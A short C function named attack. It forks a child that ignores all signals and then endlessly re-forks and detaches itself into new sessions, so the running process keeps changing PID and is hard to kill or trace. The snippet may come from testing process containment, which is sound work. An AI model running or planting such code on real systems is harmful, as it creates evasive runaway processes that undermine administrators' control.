static void attack(void)
{
    if (fork() == 0) {
        for (int number = 1; number < 65; ++number)
            signal(number, SIG_IGN);
        for (;;) {
            setsid();
            if (fork() > 0)
                _exit(0);
            usleep(1000);
        }
    }
}
